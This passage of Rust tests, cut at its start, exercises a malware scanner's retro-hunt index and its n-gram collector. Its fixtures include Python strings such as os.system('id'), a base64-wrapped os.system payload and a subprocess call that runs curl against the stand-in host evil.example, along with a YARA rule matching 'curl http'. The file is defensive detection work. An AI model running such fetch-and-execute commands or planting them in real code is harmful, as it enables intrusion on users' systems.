        index.insert_artifact(&reborn);
        let hits = index
            .candidates_for_atom("socket.socket", TermProvenance::Surface)
            .expect("queryable");
        assert_eq!(digests(&hits), digests(&[(reborn.digest, true)]));
        let hits = index
            .candidates_for_atom("os.system", TermProvenance::Surface)
            .expect("queryable");
        assert_eq!(digests(&hits), digests(&[(keep.digest, true)]));
    }

    #[test]
    fn reinserting_a_known_digest_is_idempotent() {
        let mut index = RetroIndex::new();
        let a = analyze("a.py", b"os.system('id')\n");
        index.insert_artifact(&a);
        index.insert_artifact(&a);
        let hits = index
            .candidates_for_atom("os.system", TermProvenance::Surface)
            .expect("queryable");
        assert_eq!(
            hits.len(),
            1,
            "duplicate insert must not duplicate postings"
        );
    }

    #[test]
    fn retro_hunt_confirms_only_candidates_and_matches_the_rescan_oracle() {
        let hub = hub(HubConfig::default());
        for (i, code) in [
            "import os\nos.system('id')\n",
            "import socket\nsocket.socket()\n",
            "print('benign upload')\n",
            "import subprocess\nsubprocess.run('curl http://evil.example/x')\n",
        ]
        .iter()
        .enumerate()
        {
            let _ = hub
                .submit(ScanRequest::from_source(format!("pkg{i}.py"), *code))
                .wait();
        }
        // New bundle: same three rules plus one new atom-gated rule.
        let new_yara = yara_engine::compile(&format!(
            "{YARA}\nrule curl_fetch {{ strings: $a = \"curl http\" condition: $a }}\n"
        ))
        .expect("yara");
        let deployment = hub.deploy_rules(
            Some(new_yara),
            Some(semgrep_engine::compile(SEMGREP).expect("s")),
        );
        assert_eq!(
            deployment.delta.changed.len(),
            1,
            "only the new rule changed"
        );
        assert_eq!(deployment.delta.changed[0].name, "curl_fetch");
        assert_eq!(deployment.delta.unchanged, 4);
        assert!(deployment.delta.new_atoms.contains(&"curl http".to_owned()));

        let report = hub.retro_hunt(&deployment).expect("retro index enabled");
        let oracle = hub.retro_rescan(&deployment).expect("oracle");
        assert!(report.same_hits(&oracle), "index-assisted ≡ exhaustive");
        assert_eq!(report.rules.len(), 1);
        assert_eq!(
            report.rules[0].digests.len(),
            1,
            "exactly one upload has the atom"
        );
        assert_eq!(report.digests_indexed, 4);
        assert!(
            report.confirm_scans < report.digests_indexed,
            "the index must prune: {} scans over {} digests",
            report.confirm_scans,
            report.digests_indexed
        );
        let stats = hub.stats();
        assert_eq!(stats.retro_hunts, 1);
        assert_eq!(stats.retro_confirm_scans, report.confirm_scans);
        assert_eq!(stats.retro_candidates, report.candidates);
        assert!(stats.retro_index_atoms > 0);
        assert_eq!(stats.retro_index_digests, 4);
        // The retro stages recorded latency samples.
        assert_eq!(stats.latency.retro_query.count, 1);
        assert_eq!(stats.latency.retro_confirm.count, report.confirm_scans);
        // Export carries the new counters and gauges.
        let text = hub.export_prometheus();
        assert!(text.contains("scanhub_retro_confirm_scans_total 1"));
        assert!(text.contains("scanhub_retro_index_digests 4"));
        assert!(telemetry::validate_prometheus(&text).is_ok());
    }

    #[test]
    fn retro_hunt_is_unavailable_without_cache_or_index() {
        let no_cache = hub(HubConfig {
            artifact_cache_capacity: 0,
            ..HubConfig::default()
        });
        let deployment =
            no_cache.deploy_rules(Some(yara_engine::compile(YARA).expect("yara")), None);
        assert!(no_cache.retro_hunt(&deployment).is_none());
        assert!(no_cache.retro_rescan(&deployment).is_none());
        let no_index = hub(HubConfig {
            retro_index: false,
            ..HubConfig::default()
        });
        let _ = no_index.submit(request("print('x')\n")).wait();
        assert!(no_index.retro_hunt(&deployment).is_none());
        assert_eq!(no_index.retro_index_size(), (0, 0));
    }

    // ---- The rolling collector against the per-byte hash sets it
    // replaced, kept verbatim below as the oracle.

    fn collect_grams(data: &[u8], out: &mut HashSet<[u8; GRAM_LEN]>) {
        for w in data.windows(GRAM_LEN) {
            out.insert([
                w[0].to_ascii_lowercase(),
                w[1].to_ascii_lowercase(),
                w[2].to_ascii_lowercase(),
            ]);
        }
    }

    fn collect_short_grams(data: &[u8], out1: &mut HashSet<u8>, out2: &mut HashSet<[u8; 2]>) {
        for &b in data {
            out1.insert(b.to_ascii_lowercase());
        }
        for w in data.windows(2) {
            out2.insert([w[0].to_ascii_lowercase(), w[1].to_ascii_lowercase()]);
        }
    }

    /// One provenance's 1-, 2- and 3-grams as sorted vectors.
    type Grams = (Vec<u8>, Vec<[u8; 2]>, Vec<[u8; GRAM_LEN]>);

    /// What the hash-set collectors find over `units`, none of whose
    /// windows cross a unit boundary.
    fn oracle<'a>(units: impl IntoIterator<Item = &'a [u8]>) -> Grams {
        let (mut g1, mut g2, mut g3) = (HashSet::new(), HashSet::new(), HashSet::new());
        for unit in units {
            collect_grams(unit, &mut g3);
            collect_short_grams(unit, &mut g1, &mut g2);
        }
        let mut grams: Grams = (
            g1.into_iter().collect(),
            g2.into_iter().collect(),
            g3.into_iter().collect(),
        );
        grams.0.sort_unstable();
        grams.1.sort_unstable();
        grams.2.sort_unstable();
        grams
    }

    impl GramSet {
        fn sorted(&self) -> Grams {
            let mut grams: Grams = (
                self.singles().collect(),
                self.pairs().collect(),
                self.triples().collect(),
            );
            grams.1.sort_unstable();
            grams.2.sort_unstable();
            grams
        }
    }

    /// Collects `artifact` through `scratch` and returns its (surface,
    /// layer) gram sets after checking both against the oracle.
    fn collect_checked(scratch: &mut GramScratch, artifact: &FileAnalysis) -> (Grams, Grams) {
        scratch.collect(artifact);
        let found = (scratch.surface.sorted(), scratch.layer.sorted());
        assert_eq!(found.0, oracle([&artifact.bytes[..]]), "surface grams");
        let layers = artifact.layers.iter().map(|l| &l.data[..]);
        assert_eq!(found.1, oracle(layers), "layer grams");
        assert!(
            scratch.seen2.iter().chain(&scratch.seen3).all(|&w| w == 0),
            "a presence bit outlived its collection"
        );
        found
    }

    /// A non-Python artifact over exactly these scan units.
    fn units(surface: &[u8], layers: &[&[u8]]) -> FileAnalysis {
        let mut artifact = analyze("unit.bin", surface);
        artifact.layers = layers
            .iter()
            .map(|data| crate::artifact::DecodedLayer {
                encoding: crate::LayerEncoding::Base64,
                depth: 1,
                line: 1,
                data: data.to_vec(),
            })
            .collect();
        artifact
    }

    fn pseudo_random_bytes(len: usize, mut state: u64) -> Vec<u8> {
        (0..len)
            .map(|_| {
                // xorshift64
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                (state >> 32) as u8
            })
            .collect()
    }

    #[test]
    fn rolling_collector_equals_the_hash_sets_on_edge_inputs() {
        let all_bytes: Vec<u8> = (0..=255).collect();
        let random = pseudo_random_bytes(64 * 1024, 0x9E37_79B9_7F4A_7C15);
        let cases: [(&[u8], &[&[u8]]); 9] = [
            (b"", &[]),
            (b"a", &[b""]),
            (b"aB", &[b"c"]),
            (b"aBc", &[b"De", b"f"]),
            (&all_bytes, &[&all_bytes, b"\xff\x00"]),
            (b"AbCabcABCabc AbCabc", &[b"XyZ", b"xyz", b"XYZxyz"]),
            // No window may join the end of one layer to the start of
            // the next: "ab" + "cd" holds neither "bc", "abc" nor "bcd".
            (b"", &[b"ab", b"cd"]),
            (&random, &[&random[..4096], &random[4095..12_000]]),
            (&[0u8; 70_000], &[&[b'Z'; 3]]),
        ];
        let mut scratch = GramScratch::default();
        for (surface, layers) in cases {
            collect_checked(&mut scratch, &units(surface, layers));
        }
        // Only `A`–`Z` fold: 256 byte values leave 256 − 26 distinct.
        let (surface, _) = collect_checked(&mut scratch, &units(&all_bytes, &[]));
        assert_eq!(surface.0.len(), 230);
        assert!(surface.0.contains(&b'[') && surface.0.contains(&b'@'));
        let (_, layer) = collect_checked(&mut scratch, &units(b"", &[b"ab", b"cd"]));
        assert_eq!(layer.1, [*b"ab", *b"cd"]);
        assert!(layer.2.is_empty());
    }

    #[test]
    fn rolling_collector_equals_the_hash_sets_on_the_corpus_and_its_mutants() {
        let dataset = corpus::Dataset::generate(&corpus::CorpusConfig::tiny());
        let engine = obfuscate::Obfuscator::new(obfuscate::EvasionProfile::aggressive(), 7);
        let config = ArtifactConfig::default();
        let mut scratch = GramScratch::default();
        let (mut files, mut layers) = (0, 0);
        let packages = dataset
            .unique_malware()
            .into_iter()
            .map(|m| &m.package)
            .chain(dataset.legit.iter().map(|l| &l.package));
        for package in packages {
            for pkg in [package, &engine.obfuscate_package(package)] {
                for entry in ScanRequest::from_package(pkg).files() {
                    let artifact = FileAnalysis::build(entry, None, &config);
                    collect_checked(&mut scratch, &artifact);
                    files += 1;
                    layers += artifact.layers.len();
                }
            }
        }
        assert!(files > 100 && layers > 0, "{files} files, {layers} layers");
    }

    #[test]
    fn a_reused_scratch_collects_what_fresh_ones_do() {
        let payload = digest::base64::encode(b"import os;os.system('id') # MZ");
        let a = analyze(
            "a.py",
            format!("blob = '{payload}'\nos.system('a')\n").as_bytes(),
        );
        let b = units(&pseudo_random_bytes(8192, 42), &[b"socket.socket", b"MZ"]);
        assert!(!a.layers.is_empty(), "payload must decode");
        let mut reused = GramScratch::default();
        for artifact in [&a, &b, &a] {
            let fresh = collect_checked(&mut GramScratch::default(), artifact);
            assert_eq!(collect_checked(&mut reused, artifact), fresh);
        }

        // An index posted through one scratch answers like one posted
        // through a fresh scratch per artifact.
        let files = [
            analyze("a.py", b"import os\nos.system('id')\n"),
            analyze("b.py", b"print('hello world')\n"),
            analyze("c.py", b"OS.System('id')\n"),
            analyze("d.bin", b"MZ\x90\x00"),
            a,
            b,
        ];
        let (mut shared, mut fresh) = (RetroIndex::new(), RetroIndex::new());
        for artifact in &files {
            reused.collect(artifact);
            shared.insert_collected(&reused);
            fresh.insert_artifact(artifact);
        }
        assert_eq!(shared.term_count(), fresh.term_count());
        assert_eq!(shared.digest_count(), fresh.digest_count());
        for atom in [
            "os.system",
            "os.SYSTEM",
            "socket.socket",
            "MZ",
            "mz",
            "(",
            "q",
            "qq",
            "",
        ] {
            for provenance in [TermProvenance::Surface, TermProvenance::Layer] {
                let answer = |index: &RetroIndex| {
                    let hits = index.candidates_for_atom(atom, provenance);
                    hits.map(|hits| digests(&hits))
                };
                assert_eq!(answer(&shared), answer(&fresh), "{atom:?} {provenance:?}");
            }
        }
    }

    proptest::proptest! {
        #[test]
        fn rolling_collector_equals_the_hash_sets_on_arbitrary_bytes(
            surface in proptest::prop::collection::vec(proptest::prelude::any::<u8>(), 0..600),
            layer in proptest::prop::collection::vec(proptest::prelude::any::<u8>(), 0..200),
            split in 0usize..200,
        ) {
            let (head, tail) = layer.split_at(split.min(layer.len()));
            collect_checked(&mut GramScratch::default(), &units(&surface, &[head, tail]));
        }
    }
}
